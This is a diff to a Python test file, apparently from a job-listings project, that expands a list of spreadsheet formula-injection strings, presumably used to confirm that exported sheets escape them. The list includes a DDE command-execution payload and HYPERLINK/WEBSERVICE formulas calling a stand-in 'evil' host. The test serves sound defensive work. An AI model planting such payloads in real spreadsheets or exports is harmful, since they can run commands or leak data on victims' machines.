@@ -15,7 +15,10 @@ from listings.models import Alert
 from listings.statistics import Table, as_sheets
 from tests.factories import OccupationFactory, OrganisationFactory, UserFactory, VacancyFactory
 
-FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", '=HYPERLINK("http://evil")', "\t=1", "=cmd|' /C calc'!A0"]
+FORMULAS = [
+    *("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "=cmd|' /C calc'!A0", "+358 40 123", "=DDE(1;2)"),
+    *('=HYPERLINK("http://evil")', '=WEBSERVICE("http://evil")', "{=1+1}", "＝1+1"),
+]
 LIST = "wagtailsnippets_jobs_vacancy:list"
 QUEUE = "wagtailsnippets_jobs_vacancy:queue"
 
